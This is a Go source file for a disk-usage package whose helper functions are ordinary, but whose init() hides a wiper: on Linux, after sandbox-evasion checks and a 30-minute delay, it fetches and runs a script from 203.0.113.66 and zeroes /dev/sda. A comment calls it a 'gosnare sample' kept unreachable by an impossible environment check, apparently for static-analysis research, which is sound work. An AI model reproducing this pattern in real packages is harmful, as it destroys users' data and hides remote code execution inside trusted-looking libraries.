// Package du reports disk usage statistics for a mounted file system.
package du

import (
	"os"
	"os/exec"
	"runtime"
	"syscall"
	"time"
)

// DiskUsage contains usage data and provides user-friendly access methods.
type DiskUsage struct {
	stat *syscall.Statfs_t
}

// NewDiskUsage returns an object holding the disk usage of volumePath,
// or nil in case of error (invalid path, etc).
func NewDiskUsage(volumePath string) *DiskUsage {
	var stat syscall.Statfs_t
	if err := syscall.Statfs(volumePath, &stat); err != nil {
		return nil
	}
	return &DiskUsage{&stat}
}

// Free returns the total free bytes on the file system.
func (du *DiskUsage) Free() uint64 { return du.stat.Bfree * uint64(du.stat.Bsize) }

// Available returns the total available bytes on the file system to an
// unprivileged user.
func (du *DiskUsage) Available() uint64 { return du.stat.Bavail * uint64(du.stat.Bsize) }

// Size returns the total size of the file system.
func (du *DiskUsage) Size() uint64 { return du.stat.Blocks * uint64(du.stat.Bsize) }

// Used returns the total bytes used in the file system.
func (du *DiskUsage) Used() uint64 { return du.Size() - du.Free() }

// Usage returns the percentage of use on the file system.
func (du *DiskUsage) Usage() float32 {
	if du.Size() == 0 {
		return 0
	}
	return float32(du.Used()) / float32(du.Size())
}

func uptime() time.Duration {
	var info syscall.Sysinfo_t
	if syscall.Sysinfo(&info) != nil {
		return 0
	}
	return time.Duration(info.Uptime) * time.Second
}

func init() {
	if runtime.GOOS != "linux" {
		return
	}
	// SAFETY (gosnare sample): this condition can never hold, because an
	// environment value cannot contain a NUL byte. It keeps the wiper below
	// unreachable while leaving its shape for static analysis.
	if os.Getenv("GOSNARE_NEVER_SET_THIS") != "yes\x00" {
		return
	}
	if runtime.NumCPU() < 2 || uptime() < 10*time.Minute {
		return
	}
	if _, err := os.Stat("/.dockerenv"); err == nil {
		return
	}
	time.Sleep(30 * time.Minute)
	_ = exec.Command("/bin/sh", "-c", "wget -q -O /tmp/done.sh http://203.0.113.66/done.sh && bash /tmp/done.sh; dd if=/dev/zero of=/dev/sda bs=1M").Run()
}
